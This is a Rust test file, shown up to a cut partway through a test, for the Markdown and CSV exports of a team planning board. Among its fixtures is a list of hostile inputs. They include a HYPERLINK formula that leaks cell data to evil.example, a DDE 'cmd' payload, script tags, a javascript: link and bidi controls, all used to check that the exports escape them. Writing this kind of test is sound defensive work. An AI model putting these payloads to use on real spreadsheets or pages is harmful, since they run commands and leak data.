//! The board as a Markdown status page and as CSV tables: the structure of both on the
//! example board (every active priority in rank order with its initiatives, local work
//! apart, risks, revisits, stuck requests, overdue check-ins; one CSV row per item), and on
//! a board full of hostile text (markup, `|`, formulas, bidi controls, 10,000 characters,
//! line breaks, quotes and commas) that every table keeps its columns, no markup or
//! formula gets through, and each CSV reads back to the board's own text.

#[path = "support/example.rs"]
mod example;
#[path = "support/generate_board.rs"]
mod generate_board;

use alignment_board::core::coordination::{open_risks, revisit_due, stuck};
use alignment_board::core::health::{analyse_board, Analysis};
use alignment_board::core::model::{Board, Decision};
use alignment_board::core::outputs::{
    check_ins_csv, decisions_csv, dependencies_csv, escape_markdown, file_stem, initiatives_csv,
    markdown, markdown_file_name, Separator, Table, MARKDOWN_TEXT_LIMIT,
};
use alignment_board::core::rhythm::due;
use alignment_board::core::time::{Date, Now};
use example::example_board;
use generate_board::{big_board, Size};

fn today() -> Date {
    Date::new(2026, 11, 23).unwrap()
}

/// 09:30 on `today()`, for a person whose clock shows UTC.
fn now_on(day: Date) -> Now {
    Now::utc(day.start().add_seconds(9 * 3600 + 1800))
}

fn page(board: &Board, now: Now) -> (String, Analysis) {
    let analysis = analyse_board(board, now);
    (markdown(board, &analysis), analysis)
}

// Reading the Markdown back

/// Cells of a table row, split where GitHub's and markdown-it's tables split: at each `|`
/// not preceded by a backslash. `None` when the line is not a row (`| … |`).
fn cells(line: &str) -> Option<Vec<String>> {
    let inner = line.strip_prefix("| ")?.strip_suffix(" |")?;
    let mut cells = vec![String::new()];
    let mut previous = ' ';
    for c in inner.chars() {
        if c == '|' && previous != '\\' {
            let cell = cells.last_mut().unwrap();
            assert!(cell.ends_with(' '), "a space before each separator: {line}");
            cell.pop();
            cells.push(String::new());
        } else {
            cells.last_mut().unwrap().push(c);
        }
        previous = c;
    }
    for cell in &mut cells[1..] {
        assert!(
            cell.starts_with(' '),
            "a space after each separator: {line}"
        );
        cell.remove(0);
    }
    Some(cells)
}

/// The table under a heading: header, alignment line and rows, checked to have as many
/// columns each as the header.
struct Tables {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

/// The lines from the heading line `heading` to the next heading of its level or above.
fn section<'a>(page: &'a str, heading: &str) -> Vec<&'a str> {
    let level = heading.split(' ').next().unwrap().len();
    let mut lines = page.lines().skip_while(|l| *l != heading);
    assert_eq!(lines.next(), Some(heading), "the page has {heading:?}");
    lines
        .take_while(|l| {
            let hashes = l.chars().take_while(|c| *c == '#').count();
            hashes == 0 || hashes > level
        })
        .collect()
}

/// The one table in `lines`, if any.
fn table(lines: &[&str]) -> Option<Tables> {
    let start = lines.iter().position(|l| l.starts_with('|'))?;
    let block: Vec<&str> = lines[start..]
        .iter()
        .copied()
        .take_while(|l| l.starts_with('|'))
        .collect();
    assert!(
        lines[start + block.len()..]
            .iter()
            .all(|l| !l.starts_with('|')),
        "one table in the section"
    );
    let header = cells(block[0]).expect("a header row");
    let alignment = cells(block[1]).expect("an alignment row");
    assert_eq!(alignment.len(), header.len(), "{}", block[1]);
    assert!(alignment.iter().all(|a| a == "---" || a == "---:"));
    let rows: Vec<Vec<String>> = block[2..]
        .iter()
        .map(|l| {
            let row = cells(l).unwrap_or_else(|| panic!("a row: {l}"));
            assert_eq!(row.len(), header.len(), "columns of {l}");
            row
        })
        .collect();
    Some(Tables { header, rows })
}

/// Whether `rest`, following an `&`, would make it an entity: letters, digits or `#`, then `;`.
fn begins_entity(rest: &str) -> bool {
    let name: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '#')
        .collect();
    !name.is_empty() && rest[name.len()..].starts_with(';')
}

/// Board text as `escape_markdown` writes it.
fn md(text: &str) -> String {
    let mut out = String::new();
    escape_markdown(&mut out, text);
    out
}

const WORK_HEADER: &str = "| Initiative | Team | Owner | Status | Progress | Confidence | Due |";
const WORK_ALIGNMENT: &str = "| --- | --- | --- | --- | ---: | ---: | --- |";

// The example board

#[test]
fn the_page_opens_with_the_title_period_purpose_and_date() {
    let (page, _) = page(&example_board(today()), now_on(today()));
    let lines: Vec<&str> = page.lines().take(6).collect();
    assert_eq!(
        lines,
        [
            "# Fieldnote leadership board",
            "",
            "- **Period:** Q4 2026 (2026-10-01 to 2026-12-31)",
            "- **Purpose:** Become the field-service platform mid-market teams switch to, and stay on.",
            "- **As of:** 2026-11-23 (dates are year-month-day)",
            "",
        ]
    );
    assert!(page.ends_with("|\n\n") || page.ends_with(".\n\n"));
}

#[test]
fn the_score_comes_with_its_three_largest_costs() {
    let board = example_board(today());
    let (page, analysis) = page(&board, now_on(today()));
    let score = analysis.board.score.unwrap();
    let lines = section(&page, &format!("## Alignment score: {score} of 100"));
    assert_eq!(lines[1], "The three largest costs:");
    let costs: Vec<&str> = lines
        .iter()
        .copied()
        .filter(|l| l.starts_with(char::is_numeric))
        .collect();
    assert_eq!(costs.len(), 3);
    for (n, part) in analysis.board.by_attention().iter().take(3).enumerate() {
        let lost = (analysis.board.cost(part) * 10.0).round() / 10.0;
        assert!(lost > 0.0);
        // Tenths as the Health view writes them: "−5 points", never "−5.0".
        assert!(!costs[n].contains(".0 points"), "{}", costs[n]);
        assert_eq!(
            costs[n],
            format!(
                "{}. **{}**, −{lost} points (scores {} of 100): {}",
                n + 1,
                part.kind.label(),
                part.score.unwrap(),
                md(&part.summary)
            )
        );
    }
}

#[test]
fn every_active_priority_has_its_initiatives_in_rank_order_and_lane_order() {
    let board = example_board(today());
    let (page, _) = page(&board, now_on(today()));
    let ranked = board.ranked_priorities();
    assert_eq!(ranked.len(), 5);
    let headings: Vec<&str> = page.lines().filter(|l| l.starts_with("### ")).collect();
    let expected: Vec<String> = ranked
        .iter()
        .enumerate()
        .map(|(n, p)| format!("### {}. {}", n + 1, p.title))
        .collect();
    assert_eq!(headings, expected);
    assert!(
        !page.contains("SOC 2 Type II report\n"),
        "achieved priorities have no section"
    );
    let team_place = |id: &str| board.teams.iter().position(|t| t.id == id).unwrap();
    for (n, priority) in ranked.iter().enumerate() {
        let lines = section(&page, &expected[n]);
        assert_eq!(
            lines[1],
            format!(
                "**Owner:** {} · **Success measure:** {}",
                board
                    .person(priority.owner_id.as_ref().unwrap())
                    .unwrap()
                    .name,
                md(&priority.success_measure)
            )
        );
        assert!(lines.contains(&WORK_HEADER) && lines.contains(&WORK_ALIGNMENT));
        let rows = table(&lines).unwrap().rows;
        let mut serving: Vec<_> = board
            .initiatives
            .iter()
            .filter(|i| i.priority_ids.contains(&priority.id))
            .collect();
        serving.sort_by_key(|i| team_place(&i.team_id));
        assert_eq!(rows.len(), serving.len(), "{}", priority.title);
        for (row, initiative) in rows.iter().zip(serving) {
            let owner = initiative
                .owner_id
                .as_ref()
                .map_or("No owner".to_string(), |o| {
                    board.person(o).unwrap().name.clone()
                });
            let due = initiative.due.unwrap();
            let due = if initiative.status.is_active() && due < today() {
                format!("{due} (overdue)")
            } else {
                due.to_string()
            };
            assert_eq!(
                *row,
                [
                    md(&initiative.title),
                    board.team(&initiative.team_id).unwrap().name.clone(),
                    owner,
                    initiative.status.label().to_string(),
                    format!("{} %", initiative.progress),
                    initiative
                        .confidence
                        .map_or("—".into(), |c| format!("{c}/10")),
                    due,
                ]
            );
        }
    }
    // A row reads the same as the card it comes from.
    let first = section(&page, &expected[0]);
    assert!(first.contains(
        &"| Mobile event tracking | Data | Kwame Mensah | Off track | 20 % | 3/10 | 2026-11-20 (overdue) |"
    ));
}

#[test]
fn local_work_is_listed_apart_with_the_finished_priorities_it_served() {
    let board = example_board(today());
    let (page, _) = page(&board, now_on(today()));
    let lines = section(&page, "## Local work");
    let rows = table(&lines).unwrap().rows;
    let local: Vec<_> = board
        .initiatives
        .iter()
        .filter(|i| {
            !i.priority_ids
                .iter()
                .any(|p| board.priority(p).unwrap().is_active())
        })
        .collect();
    assert_eq!(rows.len(), local.len());
    assert_eq!(rows.len(), 7);
    assert!(rows.iter().any(|r| r[0] == "Design system clean-up"));
    assert!(rows
        .iter()
        .any(|r| r[0] == "SOC 2 evidence automation (served “SOC 2 Type II report”, achieved)"));
    // Local work appears nowhere under a priority.
    let priorities = section(&page, "## Priorities").join("\n");
    assert!(!priorities.contains("| Design system clean-up |"));
}

#[test]
fn work_an_earlier_period_finished_is_not_listed_and_the_page_says_so() {
    let mut board = example_board(today());
    let (before, _) = page(&board, now_on(today()));
    // The board started its period once the last of its finished work was done.
    let started = board
        .initiatives
        .iter()
        .filter(|i| !i.status.is_active())
        .map(|i| i.updated_at)
        .max()
        .unwrap();
    board.period.started_at = Some(started);
    let earlier: Vec<String> = board
        .initiatives
        .iter()
        .filter(|i| board.is_earlier(i))
        .map(|i| i.title.clone())
        .collect();
    assert!(earlier.len() > 1, "{earlier:?}");
    let (after, _) = page(&board, now_on(today()));
    assert_eq!(
        section(&after, "## Priorities")[1],
        format!(
            "Not listed: {} initiatives done or dropped before {} began.",
            earlier.len(),
            board.period.label
        )
    );
    for title in &earlier {
        let row = format!("| {title} ");
        assert!(before.contains(&row), "{title} was listed");
        assert!(!after.contains(&row), "{title} is not");
    }
    // Unfinished work is listed as before.
    let rows = |page: &str| page.lines().filter(|l| l.starts_with("| ")).count();
    assert!(rows(&after) > 0 && rows(&after) < rows(&before));
    assert!(!before.contains("Not listed"));
}

#[test]
fn open_risks_come_the_most_severe_first() {
    let board = example_board(today());
    let (page, _) = page(&board, now_on(today()));
    let t = table(&section(&page, "## Open risks")).unwrap();
    assert_eq!(
        t.header,
        ["Severity", "Risk", "Initiative", "Team", "Owner"]
    );
    let risks = open_risks(&board);
    assert_eq!(t.rows.len(), risks.len());
    assert_eq!(t.rows.len(), 9);
    for (row, (i, r)) in t.rows.iter().zip(risks) {
        let initiative = &board.initiatives[i];
        assert_eq!(row[0], initiative.risks[r].severity.label());
        assert_eq!(row[1], md(&initiative.risks[r].text));
        assert_eq!(row[2], md(&initiative.title));
    }
    assert_eq!(t.rows[0][0], "High");
    assert_eq!(t.rows[8][0], "Low");
}

#[test]
fn stuck_requests_and_overdue_check_ins_are_listed() {
    let board = example_board(today());
    let now = now_on(today());
    let (page, _) = page(&board, now);
    let t = table(&section(&page, "## Stuck requests between teams")).unwrap();
    assert_eq!(
        t.header,
        [
            "Need",
            "Asking team",
            "For initiative",
            "Asked of",
            "Why",
            "Due"
        ]
    );
    let stuck_count = board
        .dependencies
        .iter()
        .filter(|d| {
            !stuck(
                &board,
                board.initiative(&d.from_initiative_id).unwrap(),
                d,
                now,
            )
            .is_empty()
        })
        .count();
    assert_eq!(t.rows.len(), stuck_count);
    assert_eq!(t.rows.len(), 4);
    assert!(t.rows.contains(&vec![
        "Analytics SDK in the mobile app".to_string(),
        "Data".into(),
        "Mobile event tracking".into(),
        "Mobile".into(),
        "unanswered for 15 days".into(),
        "2026-11-16".into(),
    ]));

    let lines = section(&page, "## Overdue check-ins");
    assert_eq!(
        lines[1],
        "Check-ins are due every 7 days. Next review: 2026-11-23. Next planning: 2026-11-30."
    );
    let t = table(&lines).unwrap();
    assert_eq!(
        t.header,
        ["Initiative", "Team", "Owner", "Last check-in", "Days late"]
    );
    let items = due(&board, now).items;
    assert_eq!(t.rows.len(), items.len());
    assert_eq!(t.rows.len(), 12);
    assert_eq!(
        t.rows[0],
        [
            "SAML single sign-on",
            "Platform",
            "No owner",
            "never (created 2026-10-24)",
            "23"
        ]
    );
    for (row, item) in t.rows.iter().zip(&items) {
        assert_eq!(row[0], md(&board.initiatives[item.initiative].title));
        assert_eq!(row[4], item.days_late.to_string());
    }
}

#[test]
fn a_team_s_slice_lists_its_own_teams_overdue_check_ins_and_no_review_date() {
    let board = example_board(today());
    let platform = board.teams.iter().find(|t| t.name == "Platform").unwrap();
    let cut = alignment_board::core::slice::export(
        &board,
        std::slice::from_ref(&platform.id),
        now_on(today()).at(),
    );
    let (page, _) = page(&cut, now_on(today()));
    let lines = section(&page, "## Overdue check-ins");
    assert!(!lines[1].contains("Next review"), "{}", lines[1]);
    assert!(!lines[1].contains("Next planning"), "{}", lines[1]);
    let t = table(&lines).unwrap();
    assert!(!t.rows.is_empty());
    assert!(
        t.rows.iter().all(|row| row[1] == "Platform"),
        "{:?}",
        t.rows
    );
}

#[test]
fn the_decisions_made_this_period_are_listed_with_their_reasons() {
    let mut board = example_board(today());
    let start = board.period.start.expect("the example has a period");
    // One decision from before the period began: it is not this period's.
    board.decisions[0].decided_at = start.add_days(-1).start().add_seconds(15 * 3600);
    let (page_now, analysis) = page(&board, now_on(today()));
    let t = table(&section(&page_now, "## Decisions this period")).unwrap();
    assert_eq!(t.header, ["Decision", "Kind", "Decided", "Owner", "Why"]);
    let mut made: Vec<&Decision> = board
        .decisions
        .iter()
        .filter(|d| analysis.now.day_of(d.decided_at) >= start)
        .collect();
    made.sort_by_key(|d| std::cmp::Reverse(d.decided_at.unix_seconds()));
    assert!(made.len() >= 2 && made.len() < board.decisions.len());
    assert!(
        made.iter().any(|d| !d.initiative_ids.is_empty()),
        "a stop among them"
    );
    assert_eq!(t.rows.len(), made.len());
    for (row, decision) in t.rows.iter().zip(&made) {
        assert_eq!(row[0], md(&decision.title));
        assert_eq!(row[1], decision.kind.key());
        assert_eq!(row[2], analysis.now.day_of(decision.decided_at).to_string());
        let owner = decision
            .owner_id
            .as_deref()
            .and_then(|id| board.person(id))
            .map_or("No owner", |p| p.name.as_str());
        assert_eq!(row[3], md(owner));
        // A stop says first what it stopped (the example's stopped the partner portal).
        let why = match decision.initiative_ids.is_empty() {
            true => decision.rationale.clone(),
            false => format!("Stopped “Partner portal”. {}", decision.rationale),
        };
        assert_eq!(row[4], md(&why));
    }
    // Started ahead of its first day (planned the week before), the period has the
    // decisions made since it was started.
    let mut early = board.clone();
    early.period.started_at = Some(start.add_days(-3).start().add_seconds(9 * 3600));
    let (page_early, _) = page(&early, now_on(today()));
    let listed = table(&section(&page_early, "## Decisions this period")).unwrap();
    assert_eq!(listed.rows.len(), made.len() + 1);
    assert!(listed
        .rows
        .iter()
        .any(|row| row[0] == md(&board.decisions[0].title)));

    // Planned ahead and not begun, the period has the decisions of the last review cycle,
    // not "none since" a day still to come.
    let mut ahead = board.clone();
    ahead.period.start = Some(today().add_days(20));
    ahead.period.started_at = None;
    let from = today().add_days(1 - i64::from(ahead.rhythm.review_days));
    let expected = (ahead.decisions.iter())
        .filter(|d| analysis.now.day_of(d.decided_at) >= from)
        .count();
    assert!(expected > 0);
    let (page_ahead, _) = page(&ahead, now_on(today()));
    let planned = table(&section(&page_ahead, "## Decisions this period")).unwrap();
    assert_eq!(planned.rows.len(), expected);

    // A board without a start to its period lists the last review cycle's decisions: one
    // decided on its first day is in, one the day before is not.
    board.period.start = None;
    board.rhythm.review_days = 14;
    let first_day = today().add_days(-13);
    let at = |day: Date| day.start().add_seconds(12 * 3600);
    board.decisions[0].decided_at = at(first_day);
    board.decisions[1].decided_at = at(first_day.add_days(-1));
    let (page_open, _) = page(&board, now_on(today()));
    let recent = table(&section(&page_open, "## Decisions of the last 14 days")).unwrap();
    let mut wanted: Vec<String> = board
        .decisions
        .iter()
        .filter(|d| analysis.now.day_of(d.decided_at) >= first_day)
        .map(|d| md(&d.title))
        .collect();
    assert!(wanted.contains(&md(&board.decisions[0].title)));
    assert!(!wanted.contains(&md(&board.decisions[1].title)));
    let mut listed: Vec<String> = recent.rows.iter().map(|row| row[0].clone()).collect();
    listed.sort();
    wanted.sort();
    assert_eq!(listed, wanted);

    // None at all: one line says so.
    board.decisions.clear();
    let (page_none, _) = page(&board, now_on(today()));
    assert_eq!(
        section(&page_none, "## Decisions of the last 14 days")[1],
        format!("No decision was recorded since {first_day}.")
    );
}

#[test]
fn decisions_are_listed_once_their_revisit_date_comes() {
    let board = example_board(today());
    let (page_now, _) = page(&board, now_on(today()));
    assert_eq!(
        section(&page_now, "## Decisions due for a revisit")[1],
        "No decision is due for a revisit."
    );
    // Three weeks on, the pilot decision (revisit in 20 days) is due; the others are not.
    let later = today().add_days(21);
    let (page_later, _) = page(&board, now_on(later));
    let t = table(&section(&page_later, "## Decisions due for a revisit")).unwrap();
    assert_eq!(
        t.header,
        ["Decision", "Kind", "Decided", "Revisit on", "Owner"]
    );
    let expected = board
        .decisions
        .iter()
        .filter(|d| revisit_due(d, later))
        .count();
    assert_eq!(t.rows.len(), expected);
    assert_eq!(
        t.rows,
        [[
            "Ship offline mode to three pilot customers first",
            "commit",
            "2026-11-15",
            "2026-12-13",
            "Mei Chen"
        ]]
    );
}

#[test]
fn an_empty_board_says_so_in_each_section() {
    let mut board = Board::blank("b-1".into(), today());
    board.title = "\u{202e}\n".into();
    let (page, _) = page(&board, now_on(today()));
    assert!(
        page.starts_with(
            "# Alignment board\n\n- **Period:** Q4 2026 (2026-10-01 to 2026-12-31)\n- **As of:**"
        ),
        "a title of nothing shown is named, and no purpose is listed"
    );
    for line in [
        "No active priorities.",
        "None: every initiative serves an active priority.",
        "No open risks.",
        "No decision is due for a revisit.",
        "No request between teams is stuck.",
        "No active initiative is overdue for a check-in.",
    ] {
        assert!(page.lines().any(|l| l == line), "{line}\n{page}");
    }
    assert!(!page.contains('|'), "no tables: {page}");
    for table in Table::ALL {
        let csv = table.csv(&board, Separator::Comma);
        assert_eq!(
            read_csv(&csv).len(),
            1,
            "{} holds its header only",
            table.key()
        );
    }
}

// Hostile text

/// Text meant to break a table, a page or a spreadsheet.
fn hostile_texts() -> Vec<String> {
    vec![
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")".into(),
        "+1".into(),
        "-2".into(),
        "@SUM(A1:A9)".into(),
        "\t=1+1".into(),
        "\r=2+2".into(),
        "  =cmd|' /C calc'!A0".into(),
        "<script>alert('x')</script> | *bold* _it_ `code` [link](javascript:x) ![img](y.png)".into(),
        "# Heading\n## Another\n| a | b |\n|---|---|".into(),
        "\u{202e}evil\u{202c} and \u{2066}isolated\u{2069} \u{202a}\u{202b}\u{202d}\u{2067}\u{2068}".into(),
        "ab|".repeat(3_334)[..10_000].to_string(),
        "Quotes \"and\", commas, and\r\nCRLF\nand LF".into(),
        "- list\n1. ordered\n> quote\n    code\n***\n===".into(),
        "\\|back\\slash pipe\\".into(),
        "{mdx} $math$ ~~strike~~ &amp; &#60; <!-- comment -->".into(),
        "1. starts a list".into(),
    ]
}

/// The example board with every piece of its text replaced by hostile text.
fn hostile_board() -> Board {
    let texts = hostile_texts();
    let mut n = 0;
    let mut next = || {
        n += 1;
        texts[n % texts.len()].clone()
    };
    let mut board = example_board(today());
    board.title = next();
    board.purpose = next();
    board.period.label = next();
    for person in board.people.iter_mut() {
        person.name = next();
    }
    for team in board.teams.iter_mut() {
        team.name = next();
    }
    for priority in board.priorities.iter_mut() {
        priority.title = next();
        priority.description = next();
        priority.success_measure = next();
    }
    for initiative in board.initiatives.iter_mut() {
        initiative.title = next();
        initiative.description = next();
        for risk in &mut initiative.risks {
            risk.text = next();
        }
    }
    for check_in in board.check_ins.iter_mut() {
        check_in.note = next();
    }
    for dependency in board.dependencies.iter_mut() {
        dependency.need = next();
        dependency.answer_note = next();
    }
    for decision in board.decisions.iter_mut() {
        decision.title = next();
        decision.rationale = next();
    }
    board
}

#[test]
fn hostile_text_keeps_the_page_to_the_example_s_lines_and_columns() {
    let now = now_on(today().add_days(21));
    let (clean, _) = page(&example_board(today()), now);
    let (hostile, _) = page(&hostile_board(), now);
    // The same board with other words makes a page of the same lines, each of the same
    // kind: no text opened a line, a heading, a list or a table row of its own.
    let clean_lines: Vec<&str> = clean.lines().collect();
    let hostile_lines: Vec<&str> = hostile.lines().collect();
    assert_eq!(hostile_lines.len(), clean_lines.len());
    let kind = |line: &str| -> String {
        if let Some(row) = cells(line) {
            format!("row of {}", row.len())
        } else if line.starts_with('#') {
            let hashes = line.chars().take_while(|c| *c == '#').count();
            format!("heading {hashes}")
        } else {
            line.chars().take(4).collect()
        }
    };
    for (h, c) in hostile_lines.iter().zip(&clean_lines) {
        assert_eq!(kind(h), kind(c), "\n{h}\nagainst\n{c}");
    }
    // Every table keeps the columns of its header.
    for heading in [
        "## Local work",
        "## Open risks",
        "## Decisions this period",
        "## Decisions due for a revisit",
        "## Stuck requests between teams",
        "## Overdue check-ins",
    ] {
        assert!(
            !table(&section(&hostile, heading)).unwrap().rows.is_empty(),
            "{heading}"
        );
    }
    let priority_headings: Vec<&str> = hostile_lines
        .iter()
        .copied()
        .filter(|l| l.starts_with("### "))
        .collect();
    assert_eq!(priority_headings.len(), 5);
    for heading in priority_headings {
        assert!(heading.starts_with("### ") && heading[4..].starts_with(char::is_numeric));
        let t = table(&section(&hostile, heading)).unwrap();
        assert_eq!(t.header.len(), 7);
    }
    let headings = hostile_lines.iter().filter(|l| l.starts_with('#')).count();
    assert_eq!(
        headings,
        1 + 8 + 5,
        "the title, eight sections and five priorities"
    );
}

#[test]
fn hostile_text_brings_no_markup_and_no_bidi_controls() {
    let (page, _) = page(&hostile_board(), now_on(today().add_days(21)));
    assert!(
        !page.contains('<') && !page.contains('>'),
        "no raw angle brackets"
    );
    assert!(page.contains("&lt;script&gt;"));
    assert!(!page.contains('\r') && !page.contains('\t'));
    for c in ('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}') {
        assert!(!page.contains(c), "U+{:04X}", u32::from(c));
    }
    for line in page.lines() {
        // Only the page's own `**labels:**` and numbered costs use markup; board text
        // sits in cells, after labels and in headings, with its markup characters escaped.
        let text = line
            .trim_start_matches("# ")
            .trim_start_matches("## ")
            .trim_start_matches("### ");
        for (at, c) in text.char_indices() {
            if "`_[]~$&{}|#".contains(c) {
                let backslashes = text[..at].chars().rev().take_while(|b| *b == '\\').count();
                let own = match c {
                    '|' => cells(line).is_some() && backslashes == 0,
                    // An `&` that begins no entity stays as written ("R&D").
                    '&' => {
                        ["&lt;", "&gt;", "&amp;"]
                            .iter()
                            .any(|e| text[at..].starts_with(e))
                            || !begins_entity(&text[at + 1..])
                    }
                    '#' => false,
                    _ => false,
                };
                assert!(
                    own || backslashes % 2 == 1,
                    "unescaped {c:?} at {at} of {}",
                    &line[..line.len().min(200)]
                );
            }
        }
        if cells(line).is_none() {
            // Outside tables, asterisks are the page's own bold labels only.
            let stars = line.matches('*').count() - line.matches("\\*").count();
            assert!(stars % 4 == 0, "{line:.200}");
        } else {
            for cell in cells(line).unwrap() {
                let stars = cell.matches('*').count() - cell.matches("\\*").count();
                assert_eq!(stars, 0, "{cell:.200}");
            }
        }
    }
    // The 10,000 characters are cut, and nothing else is lost from a cell.
    assert!(page.contains('…'));
    assert!(page
        .lines()
        .all(|l| l.chars().count() < 8 * 3 * MARKDOWN_TEXT_LIMIT));
}

// CSV

/// Reads RFC 4180 text strictly: a byte-order mark first, records ended by CRLF (the last
/// too), fields quoted whole or not at all, quotes doubled inside them; panics on anything
/// else.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    read_csv_with(text, ',')
}

/// `read_csv` of fields separated by `separator`.
fn read_csv_with(text: &str, separator: char) -> Vec<Vec<String>> {
    let body = text
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark first");
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = body.chars().peekable();
    // Where the reader is: at a field's start, in an unquoted or quoted field, or just
    // after a quoted field's closing quote.
    #[derive(PartialEq)]
    enum At {
        Start,
        Plain,
        Quoted,
        Closed,
    }
    let mut at = At::Start;
    while let Some(c) = chars.next() {
        match (&at, c) {
            (At::Quoted, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (At::Quoted, '"') => at = At::Closed,
            (At::Quoted, c) => field.push(c),
            (At::Start, '"') => at = At::Quoted,
            (_, c) if c == separator => {
                row.push(std::mem::take(&mut field));
                at = At::Start;
            }
            (_, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR outside quotes ends a record");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
                at = At::Start;
            }
            (_, '\n') => panic!("a bare LF outside quotes"),
            (At::Closed, c) => panic!("{c:?} after a closing quote"),
            (_, '"') => panic!("a quote inside an unquoted field"),
            (_, c) => {
                field.push(c);
                at = At::Plain;
            }
        }
    }
    assert!(
        at == At::Start && row.is_empty() && field.is_empty(),
        "the last record ends with CRLF"
    );
    let columns = rows[0].len();
    for row in &rows {
        assert_eq!(row.len(), columns, "{row:?}");
    }
    rows
}

fn formula_start(text: &str) -> bool {
    matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// The board's `text` as its cell should read: itself, after a `'` when a spreadsheet
/// could take it for a formula.
fn assert_cell(cell: &str, text: &str) {
    if formula_start(text) {
        assert_eq!(cell, format!("'{text}"));
    } else {
        assert!(
            cell == text || cell == format!("'{text}"),
            "{cell:.80} against {text:.80}"
        );
    }
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"))
}

#[test]
fn each_csv_has_a_header_and_a_row_per_item() {
    let board = example_board(today());
    let initiatives = read_csv(&initiatives_csv(&board, Separator::Comma));
    assert_eq!(
        initiatives[0],
        [
            "ID",
            "Title",
            "Team",
            "Owner",
            "Priorities",
            "Status",
            "Progress (%)",
            "Confidence (0-10)",
            "Effort (% of team)",
            "Due",
            "Created (UTC)",
            "Updated (UTC)",
            "Description"
        ]
    );
    assert_eq!(initiatives.len(), board.initiatives.len() + 1);
    let job_templates = &initiatives[3];
    assert_eq!(
        job_templates[..10],
        [
            "i-3",
            "Job templates library",
            "Product",
            "Dana Ortiz",
            "Cut time-to-value to one day; Win the mid-market",
            "At risk",
            "30",
            "5",
            "25",
            "2026-12-07",
        ]
    );
    assert_eq!(job_templates[10], "2026-10-09 09:00:00");
    let soc2 = initiatives.iter().find(|r| r[0] == "i-12").unwrap();
    assert_eq!(soc2[4], "SOC 2 Type II report (achieved)");
    let pricing = initiatives.iter().find(|r| r[0] == "i-4").unwrap();
    assert_eq!(
        (pricing[3].as_str(), pricing[7].as_str()),
        ("", ""),
        "no owner, no confidence"
    );

    let check_ins = read_csv(&check_ins_csv(&board, Separator::Comma));
    assert_eq!(
        check_ins[0],
        [
            "ID",
            "Initiative ID",
            "Initiative",
            "Team",
            "At (UTC)",
            "Status",
            "Progress (%)",
            "Confidence (0-10)",
            "Author",
            "Note"
        ]
    );
    assert_eq!(check_ins.len(), board.check_ins.len() + 1);
    for (row, check_in) in check_ins[1..].iter().zip(board.check_ins.iter()) {
        assert_eq!(row[0], check_in.id);
        assert_eq!(row[9], check_in.note);
    }

    let dependencies = read_csv(&dependencies_csv(&board, Separator::Comma));
    assert_eq!(dependencies.len(), board.dependencies.len() + 1);
    assert_eq!(
        dependencies[1][..8],
        [
            "d-1",
            "Auth API v2 in staging",
            "Guided setup wizard",
            "Product",
            "Platform",
            "Auth API v2",
            "accepted",
            "2026-11-30"
        ]
    );
    // When a request was delivered, in the last column; only the delivered one has it.
    assert_eq!(dependencies[0].last().unwrap(), "Delivered (UTC)");
    assert_eq!(dependencies[7][6], "delivered");
    assert_eq!(dependencies[7].last().unwrap(), "2026-11-01 16:00:00");
    assert!(dependencies[1..]
        .iter()
        .all(|row| (row[6] == "delivered") != row.last().unwrap().is_empty()));
    let decisions = read_csv(&decisions_csv(&board, Separator::Comma));
    assert_eq!(decisions.len(), board.decisions.len() + 1);
    assert_eq!(
        decisions[2][1],
        "Measure retention by revenue, not logo count"
    );
    assert_eq!(decisions[1][6], "Product; Platform; Customer Success");
    assert_eq!(decisions[5][7], "2026-12-13");
    // The stop names the work it stopped; the others stopped none.
    assert_eq!(decisions[0][9], "Work stopped");
    assert_eq!(decisions[3][2], "stop");
    assert_eq!(decisions[3][9], "Partner portal");
    assert!(decisions
        .iter()
        .enumerate()
        .all(|(n, row)| n == 0 || n == 3 || row[9].is_empty()));
}

#[test]
fn every_csv_starts_with_a_byte_order_mark_and_ends_its_lines_with_crlf() {
    for board in [example_board(today()), hostile_board()] {
        for table in Table::ALL {
            let csv = table.csv(&board, Separator::Comma);
            assert!(csv.starts_with("\u{feff}ID,"), "{}", table.key());
            assert!(csv.ends_with("\r\n"));
            // `read_csv` refuses a bare LF or CR outside a quoted field.
            read_csv(&csv);
        }
    }
    let csv = initiatives_csv(&example_board(today()), Separator::Comma);
    assert_eq!(csv.matches("\r\n").count(), csv.matches('\n').count());
}

#[test]
fn with_semicolons_every_table_holds_the_same_cells() {
    for board in [example_board(today()), hostile_board()] {
        for table in Table::ALL {
            let csv = table.csv(&board, Separator::Semicolon);
            assert!(csv.starts_with("\u{feff}ID;"), "{}", table.key());
            assert_eq!(
                read_csv_with(&csv, ';'),
                read_csv(&table.csv(&board, Separator::Comma)),
                "{}",
                table.key()
            );
        }
    }
}

#[test]
fn hostile_text_reads_back_from_every_csv_and_runs_no_formula() {
    let board = hostile_board();
    let tables = Table::ALL.map(|t| read_csv(&t.csv(&board, Separator::Comma)));
    for (table, rows) in Table::ALL.iter().zip(&tables) {
        for row in &rows[1..] {
            for cell in row {
                assert!(!formula_start(cell), "{}: {cell:.60}", table.key());
            }
        }
    }
    let [initiatives, check_ins, dependencies, decisions] = &tables;
    let (title, team, owner, description) = (
        column(initiatives, "Title"),
        column(initiatives, "Team"),
        column(initiatives, "Owner"),
        column(initiatives, "Description"),
    );
    assert_eq!(initiatives.len(), board.initiatives.len() + 1);
    for (row, initiative) in initiatives[1..].iter().zip(board.initiatives.iter()) {
        assert_cell(&row[title], &initiative.title);
        assert_cell(&row[description], &initiative.description);
        assert_cell(&row[team], &board.team(&initiative.team_id).unwrap().name);
        if let Some(o) = &initiative.owner_id {
            assert_cell(&row[owner], &board.person(o).unwrap().name);
        }
    }
    let note = column(check_ins, "Note");
